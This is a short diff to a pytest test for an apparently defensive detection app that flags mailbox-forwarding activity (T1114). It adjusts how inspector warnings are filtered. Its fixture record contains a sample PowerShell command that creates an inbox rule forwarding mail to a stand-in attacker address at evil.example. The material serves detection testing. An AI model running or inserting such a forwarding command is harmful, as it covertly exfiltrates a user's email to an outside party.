@@ -10,6 +10,7 @@ import shutil
 import pytest
 
 from app.finding import OUTPUT_FIELDS
+from tests.conftest import UNSIGNED_ROWS
 from tests.rule_events import all_cases, presentations
 from tools.chunked_client import ChunkedCommand, run, script_path
 
@@ -126,7 +127,8 @@ def test_broken_lookup_row_gives_one_inspector_warning_and_other_rows_apply(buil
     record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com",
               "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}
     result = run(script_path(app_copy), [dict(record) for _ in range(50)], args=["mode=all"], chunk_size=10)
-    warnings = [text for level, text in result["messages"] if level == "WARN" and "t1114_allowlist_accounts.csv" in text]
+    warnings = [text for level, text in result["messages"] if level == "WARN" and "t1114_allowlist_accounts.csv" in text
+                and UNSIGNED_ROWS not in text]
     assert len(warnings) == 1 and "line 2" in warnings[0] and "valid_from" in warnings[0]
     assert {r["t1114_status"] for r in result["records"]} == {"suppressed"}
     assert "line 3" in result["records"][0]["t1114_suppressed_by"]
